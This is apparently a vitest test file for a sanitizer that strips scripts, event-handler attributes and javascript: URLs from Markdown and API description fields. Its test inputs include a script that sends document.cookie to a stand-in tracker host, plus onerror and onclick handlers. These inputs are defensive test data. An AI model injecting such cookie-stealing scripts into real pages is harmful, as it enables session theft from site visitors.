import { expect, test } from 'vitest';
import { removeUnsafeDescriptions, removeUnsafeMarkdown } from './unsafe-markdown.ts';

test('removes script elements, event-handler attributes and javascript: URLs, and keeps the rest', () => {
	expect(removeUnsafeMarkdown("Sign here.\n<script>fetch('https://tracker.example/?c=' + document.cookie)</script>\nThanks.")).toBe('Sign here.\n\nThanks.');
	expect(removeUnsafeMarkdown('<img src="x.png" onerror="alert(1)" onload=go alt="x"> and <b>bold</b>')).toBe('<img src="x.png" alt="x"> and <b>bold</b>');
	expect(removeUnsafeMarkdown('See [the rules](javascript:alert(2)) or <a href="javascript:void(0)">here</a>.')).toBe('See [the rules](#) or <a href="#">here</a>.');
	expect(removeUnsafeMarkdown('An unclosed <script src=x> swallows the rest')).toBe('An unclosed ');
	expect(removeUnsafeMarkdown('Plain **Markdown** with [a link](https://example.org) stays.')).toBe('Plain **Markdown** with [a link](https://example.org) stays.');
});

test('cleans every description of a document and names the ones it changed', () => {
	const document = {
		info: { description: 'Hi <script>x()</script>' },
		paths: { '/a/b': { get: { description: 'fine', responses: { '200': { description: '<p onclick="x()">ok</p>' } } } } },
		components: { schemas: { Thing: { properties: { description: { type: 'string', description: 'a field named description' } } } } },
	};
	expect(removeUnsafeDescriptions(document)).toEqual(['/info/description', '/paths/~1a~1b/get/responses/200/description']);
	expect(document.info.description).toBe('Hi ');
	expect(document.paths['/a/b'].get.responses['200'].description).toBe('<p>ok</p>');
});
